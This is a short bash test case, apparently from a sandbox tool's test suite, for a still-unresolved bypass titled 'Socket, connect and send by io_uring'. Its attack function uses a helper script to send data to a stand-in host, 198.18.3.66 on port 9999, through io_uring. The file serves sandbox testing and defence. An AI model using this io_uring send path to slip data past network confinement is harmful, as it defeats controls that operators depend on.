# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='Socket, connect and send by io_uring'
origin='issue 4'
reason='not_resolved'
attack() { tool send.py uring 198.18.3.66 9999 "$1" > "$T/uring.out"; cat "$T/uring.out"; }
